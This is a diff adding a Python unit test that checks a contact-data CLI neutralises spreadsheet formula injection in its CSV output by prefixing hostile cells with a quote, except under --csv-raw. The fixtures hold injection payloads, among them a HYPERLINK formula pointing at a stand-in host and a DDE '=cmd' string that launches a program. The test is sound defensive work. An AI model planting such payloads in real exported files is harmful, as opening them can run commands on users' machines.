@@ -1361,6 +1361,86 @@ class NothingPaidDropped(CsvRun):
             r.stdout.encode())[1:]), values(emails + phones))
 
 
+class FormulaCells(CsvRun):
+    """Server text is never a live formula in a CSV the CLI writes (issue
+    27 item 7), unless --csv-raw."""
+    types = "email-work,phone"
+    hostile = ['=HYPERLINK("http://evil.example/?x","click")', "@SUM(A1:A2)",
+               "-1+1", "\t=1+1", "\r=2+2", "+1 (555) 266-7756"]
+    e164 = "+15552667756"
+
+    def answer(self, batch, person):
+        emails = [{"value": v, "type": "email-work", "status": None}
+                  for v in self.hostile[:5]]
+        phones = [{"value": v, "type": "phone", "status": "=cmd|' /C calc'!A0"}
+                  for v in (self.hostile[5], self.e164)]
+        self.server.script(QUERY, 200, json.dumps({"data": {"query": {
+            "redeem_query_id": "00000000-0000-4000-8000-%012x" % batch,
+            "is_completed": True}, "peoples": [{
+                "people_search_id": person, "emails": emails,
+                "phones": phones}]}}))
+
+    @staticmethod
+    def shown(value):
+        """What the CSV holds for a value: control characters escaped."""
+        return value.replace("\t", "\\u0009").replace("\r", "\\u000d")
+
+    def test_formulas_get_a_quote_and_phones_stay_numbers(self):
+        person = ids(1, seed=51)[0]
+        journal = self.path("run.journal")
+        guarded = ["'" + self.shown(v) for v in self.hostile]
+        raw = [self.shown(v) for v in self.hostile]
+        # --format csv rows: values and statuses.
+        self.answer(1, person)
+        r = self.run_cli("redeem", "--types", self.types, "--wait",
+                         "--format", "csv", "--journal", journal, person)
+        self.assertEqual(r.returncode, 0, r.stderr)
+        rows = parse_csv(r.stdout.encode())[1:]
+        self.assertEqual(sorted(row[2] for row in rows),
+                         sorted(guarded + [self.e164]))
+        self.assertIn("'=cmd|' /C calc'!A0", [row[3] for row in rows])
+        # export --format csv, the same.
+        r = self.run_cli("export", "--journal", journal, "--format", "csv")
+        self.assertEqual(r.returncode, 0, r.stderr)
+        self.assertEqual(sorted(row[2] for row in parse_csv(
+            r.stdout.encode())[1:]), sorted(guarded + [self.e164]))
+        r = self.run_cli("export", "--journal", journal, "--format", "csv",
+                         "--csv-raw")
+        self.assertEqual(sorted(row[2] for row in parse_csv(
+            r.stdout.encode())[1:]), sorted(raw + [self.e164]))
+        # The enriched rows: the cell's first value decides.
+        for batch, extra in ((2, ()), (3, ("--csv-raw",))):
+            self.answer(batch, person)
+            data = csv_bytes([["people_search_id", "note"],
+                              [person, "=my own formula"]])
+            r, err, out = self.redeem_rows(data, *extra)
+            self.assertEqual(r.returncode, 0, err)
+            row = dict(zip(out[0], out[1]))
+            prefix = "" if extra else "'"
+            self.assertEqual(row["email_work"],
+                             prefix + "; ".join(raw[:5]))
+            self.assertEqual(row["phone"], prefix + "; ".join(
+                [raw[5], self.e164]))
+            self.assertEqual(row["phone_status"], prefix + "=cmd|' /C calc'!A0"
+                             "; =cmd|' /C calc'!A0")
+            self.assertEqual(row["note"], "=my own formula")  # the input's
+        # JSON lines are never changed.
+        self.answer(4, person)
+        r = self.run_cli("redeem", "--types", self.types, "--wait", person)
+        p = self.people(r.stdout)[0]
+        self.assertEqual(sorted(c["value"] for c in p["emails"] + p["phones"]),
+                         sorted(self.hostile + [self.e164]))
+        # A phone alone: E.164 as it is.
+        self.server.script(QUERY, 200, json.dumps({"data": {"query": {
+            "redeem_query_id": "00000000-0000-4000-8000-%012x" % 5,
+            "is_completed": True}, "peoples": [{
+                "people_search_id": person, "emails": [], "phones": [
+                    {"value": self.e164, "type": "phone", "status": None}]}]}}))
+        data = csv_bytes([["people_search_id"], [person]])
+        r, err, out = self.redeem_rows(data)
+        self.assertEqual(dict(zip(out[0], out[1]))["phone"], self.e164)
+
+
 class CsvStopped(CsvRun):
     server_args = ("--estimated-time", "0", "--complete-after-polls",
                    "1000000")
